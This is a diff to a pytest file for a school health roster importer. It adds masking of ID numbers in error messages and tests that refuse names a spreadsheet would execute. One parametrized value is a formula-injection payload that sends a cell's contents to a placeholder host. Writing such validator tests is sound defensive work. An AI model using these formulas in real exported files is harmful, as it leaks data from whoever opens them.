@@ -7,6 +7,7 @@ from datetime import date
 import pytest
 from flask_babel import force_locale
 
+from schoolhealth.models import mask_ids
 from schoolhealth.roster.importing import (
     INVALID,
     NEW,
@@ -302,7 +303,7 @@ def test_wrong_check_digit_is_an_error_giving_the_right_one(school):
     wrong = valid[:17] + ("0" if valid[17] != "0" else "1")
     values, issues = one_value(school, "身份证号", wrong)
     [issue] = issues
-    assert (issue.column, issue.value, issue.key) == ("身份证号", wrong, "id_check_digit")
+    assert (issue.column, issue.value, issue.key) == ("身份证号", mask_ids(wrong), "id_check_digit")
     assert issue.message == (
         f"the check digit should be {valid[17]} (GB 11643); the number was mistyped"
     )
@@ -545,3 +546,23 @@ def test_compact_lines_reads_like_a_person_would_write_them():
     assert compact_lines([7, 3, 4, 5, 9, 12]) == "3–5, 7, 9, 12"
     assert compact_lines(list(range(2, 400, 2)), limit=3) == "2, 4, 6 … (+196)"
     assert compact_lines([5]) == "5"
+
+
+# --- spreadsheet formula injection (issue 7 §6) ----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A1)', "+1+2", "@SUM(A1:A9)", "-2+3", "＝1+1"]
+)
+def test_a_name_a_spreadsheet_would_run_is_refused_with_row_and_column(school, name):
+    values, issues = one_value(school, "姓名", name)
+    [issue] = issues
+    assert (issue.line, issue.column, issue.key) == (2, "姓名", "name_formula")
+    assert "formula" in issue.message
+    assert "name" not in values
+
+
+def test_a_name_with_a_hyphen_inside_is_still_a_name(school):
+    values, issues = one_value(school, "姓名", "Anne-Marie")
+    assert issues == []
+    assert values["name"] == "Anne-Marie"
